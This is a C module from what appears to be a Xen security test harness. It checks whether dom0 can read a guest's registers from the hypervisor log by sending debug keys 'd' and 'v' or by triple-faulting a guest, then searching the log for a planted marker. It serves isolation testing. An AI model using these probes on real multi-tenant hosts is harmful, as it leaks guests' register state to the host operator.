/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: a guest's registers in Xen's log
 *
 * Claim:  dom0 has Xen print a guest's registers, and reads them.
 * Method: XEN_SYSCTL_debug_keys with 'd' (registers of what runs) and 'v'
 *         (control blocks of all guests); a guest that ends by a triple fault.
 *         The log is then searched for words of the marker.
 * Stock:  printed, and in XEN_SYSCTL_readconsole.
 */
#include <stdio.h>

#include "../attack.h"

#define TRIES 12

/* How many words of the marker the log has behind AT. */
static unsigned int words_in_log(unsigned int at)
{
    uint32_t word[VICTIM_WORDS];
    unsigned int i, n = 0;
    char text[16];

    marker_words(word);
    for ( i = 0; i < 3; i++ )
    {
        snprintf(text, sizeof(text), "%08x", word[i]);
        n += !!log_count(at, text);
    }
    return n;
}

static enum verdict key(const char *keys)
{
    unsigned int i, from, n = 0;

    for ( i = 0; i < TRIES && !n; i++ )
    {
        from = log_end();
        if ( xc_send_debug_keys(xch, keys) )
            return verdict(FAILURE, "refused");
        msleep(17 * i);
        n = words_in_log(from);
    }
    return verdict(n ? SUCCESS : FAILURE, "%u words of the marker in the log",
                   n);
}

static enum verdict key_registers(struct victim *v)
{
    (void)v;
    return key("d");
}
ATTACK(key_registers, .needs = SHARED);

static enum verdict key_vmcb(struct victim *v)
{
    (void)v;
    return key("v");
}
ATTACK(key_vmcb, .needs = SHARED);

static enum verdict triple_fault_log(struct victim *v)
{
    unsigned int from = v->log, n;

    if ( !victim_suspended(v, 30) )
        return verdict(ERROR, "the guest goes on");
    msleep(500);
    n = words_in_log(from);
    return verdict(n ? SUCCESS : FAILURE, "%u words of the marker in the log",
                   n);
}
ATTACK(triple_fault_log, .needs = FRESH, .extra = "triple");
